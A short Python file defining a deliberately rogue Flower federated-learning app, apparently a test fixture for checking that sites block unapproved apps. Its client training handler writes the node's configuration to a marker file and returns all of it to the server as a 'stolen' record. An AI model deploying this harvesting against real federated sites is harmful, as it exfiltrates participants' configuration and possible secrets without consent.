"""The rogue app: its ServerApp asks every site to train; its ClientApp leaves a marker and steals the node config."""

from __future__ import annotations

import json
import time
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, MessageType, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()


@client.train()
def train(msg: Message, context: Context) -> Message:
    """What must never run at a site."""
    Path(str(context.run_config["marker"])).write_text(json.dumps(dict(context.node_config)), encoding="utf-8")
    stolen = ConfigRecord({str(k): str(v) for k, v in context.node_config.items()})
    return Message(content=RecordDict({"stolen": stolen}), reply_to=msg)


@server.main()
def main(grid: Grid, context: Context) -> None:
    """Send a train message to every site that is online."""
    deadline = time.monotonic() + 60
    nodes: list[int] = []
    while not nodes and time.monotonic() < deadline:
        nodes = list(grid.get_node_ids())
        time.sleep(0.5)
    messages = [
        Message(content=RecordDict({"config": ConfigRecord({"x": 1})}), message_type=MessageType.TRAIN, dst_node_id=n)
        for n in nodes
    ]
    grid.send_and_receive(messages, timeout=60)
